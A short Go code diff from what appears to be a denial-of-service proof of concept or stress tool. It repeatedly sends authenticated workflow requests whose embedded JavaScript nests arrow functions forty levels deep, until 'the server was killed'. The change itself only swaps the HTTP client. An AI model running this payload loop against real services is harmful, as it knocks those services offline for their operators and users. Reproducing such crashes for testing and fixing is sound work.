@@ -119,6 +119,7 @@ func (a attack) measure(ctx context.Context, binary, data string, length time.Du
 // Idempotency-Key, until the context ends.
 func (c *client) compile(ctx context.Context, key, workflow string) {
 	const depth = 40
+	var sender http.Client
 	for n := 0; ctx.Err() == nil; n++ {
 		code := fmt.Sprintf("// %d\nreturn %s1%s", n, strings.Repeat("((a=", depth), strings.Repeat(")=>1)", depth))
 		body := fmt.Sprintf(`{"definition":{"steps":[{"id":"a","uses":"code.js","with":{"code":%q}}]}}`, code)
@@ -129,7 +130,7 @@ func (c *client) compile(ctx context.Context, key, workflow string) {
 		request.Header.Set("Authorization", "Bearer "+key)
 		request.Header.Set("Content-Type", "application/json")
 		request.Header.Set("Idempotency-Key", strconv.Itoa(n))
-		response, err := http.DefaultClient.Do(request)
+		response, err := sender.Do(request)
 		if err != nil {
 			return // the server was killed
 		}
